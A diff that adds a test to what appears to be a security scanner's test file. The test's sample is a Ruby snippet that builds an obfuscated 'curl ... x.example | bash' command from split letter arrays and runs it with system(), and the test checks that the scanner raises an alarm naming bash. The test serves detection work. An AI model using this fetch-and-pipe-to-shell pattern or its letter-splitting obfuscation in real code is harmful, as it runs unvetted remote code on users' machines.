@@ -44,3 +44,9 @@ def test_a_function_that_runs_code_is_a_caution_elsewhere() -> None:
 )
 def test_other_sums_of_strings_are_none(text: str) -> None:
     assert found("a.py", text) == set()
+
+
+def test_of_several_words_of_a_line_the_first_by_name_is_named_in_every_process() -> None:
+    text = 'cmd = %w[c u r l].join + " -s https://x.example/r | " + %w[b a s h].join\nsystem(cmd)\n'
+    values = [fact.value for fact in find_facts({"a.rb": text}) if fact.level == ALARM]
+    assert [value.partition(":")[0] for value in values] == ["bash"]
